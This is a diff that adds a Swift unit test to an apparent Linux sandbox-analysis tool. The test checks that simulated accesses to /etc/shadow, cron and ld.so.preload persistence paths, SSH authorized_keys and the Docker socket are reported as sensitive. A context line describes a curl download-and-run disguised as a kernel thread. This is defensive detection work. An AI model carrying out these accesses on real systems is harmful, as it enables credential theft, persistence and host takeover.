@@ -134,4 +134,26 @@ import WardenLinux
             "It tried to run 4 program(s): /usr/bin/curl -o '/dev/shm/a b' http://h/x; '/dev/shm/a b' (argv[0] '[kworker/0:1]'); /bin/echo 1 …; /bin/true.",
         ])
     }
+
+    /// Credential files opened in any way, persistence places written (or renamed onto), and a
+    /// container runtime's socket: each named; a shell reading /etc/profile is not persistence.
+    @Test func sensitiveAttemptsAreNamed() {
+        let files: [SandboxReport.FileAccess] = [
+            .init(syscall: "openat", path: "/etc/shadow", detail: "O_RDONLY", created: false),
+            .init(syscall: "openat", path: "/etc/profile", detail: "O_RDONLY", created: false),
+            .init(syscall: "openat", path: "/etc/cron.d/x", detail: "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true),
+            .init(syscall: "openat", path: "/etc/ld.so.preload", detail: "O_WRONLY|O_APPEND", created: false),
+            .init(syscall: "renameat2", path: "/tmp/k", detail: "to /root/.ssh/authorized_keys", created: false),
+            .init(syscall: "unlinkat", path: "/etc/shadow-", detail: nil, created: false),
+        ]
+        var base = report(files: files)
+        base.network = [.init(syscall: "connect", family: "AF_UNIX", address: "/var/run/docker.sock", port: nil)]
+        #expect(SandboxVerdict.sensitiveAccesses(base) == [
+            "It tried to open credential files: /etc/shadow.",
+            "It tried to write where programs are started again (persistence): /etc/cron.d/x, /etc/ld.so.preload, /root/.ssh/authorized_keys.",
+            "It tried to reach a container runtime's socket: /var/run/docker.sock.",
+        ])
+        #expect(SandboxVerdict.sentences(base).contains("It tried to open credential files: /etc/shadow."))
+        #expect(SandboxVerdict.sensitiveAccesses(report(files: [files[1]])).isEmpty)
+    }
 }
